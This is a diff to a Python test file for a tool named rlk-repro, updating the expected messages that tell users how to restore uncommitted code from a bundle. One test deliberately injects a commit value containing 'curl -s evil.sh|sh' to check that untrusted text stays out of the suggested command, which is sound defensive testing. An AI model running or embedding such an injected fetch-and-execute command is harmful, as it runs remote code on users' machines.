@@ -50,7 +50,7 @@ def test_changes_are_kept_and_replay_says_how_to_apply_them(tmp_path: Path, monk
     assert run_dir.is_packed(run_dir.own_patch.name)
     (line,) = describe_own_patch(Path("my b.tgz"), [manifest])
     assert line == (
-        f"rlk-repro ran with changes; in a clone of rlk-repro: git checkout {COMMIT} && "
+        f"rlk-repro had uncommitted changes; to restore its code, in a clone: git checkout {COMMIT} && "
         f"tar xzOf '{Path('my b.tgz').absolute()}' rlk-repro.patch | git apply"
     )
     run_dir.plan.write_text("{}")
@@ -64,7 +64,7 @@ def test_text_of_a_stranger_is_no_part_of_a_command(tmp_path: Path, monkeypatch:
     assert isinstance(own, dict)
     evil = dataclasses.replace(manifest, sections={"code": {"rlk_repro": {**own, "commit": "x;curl -s evil.sh|sh;"}}})
     (line,) = describe_own_patch(Path("b.tgz"), [evil])
-    assert line.endswith("x;curl -s evil.sh|sh;, which is not a commit: no command can apply them")
+    assert line.endswith("x;curl -s evil.sh|sh;): nothing can restore its code")
 
 
 def test_secrets_are_taken_out_and_that_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -93,4 +93,4 @@ def test_what_is_not_kept_has_a_reason(
     assert read_fact(manifest) == Unknown(reason)
     assert not run_dir.own_patch.exists()
     (line,) = describe_own_patch(Path("b.tgz"), [manifest])
-    assert line == f"rlk-repro ran with changes to {COMMIT} that the bundle lacks ({reason})"
+    assert line == f"the bundle lacks rlk-repro's uncommitted changes to commit {COMMIT} ({reason})"
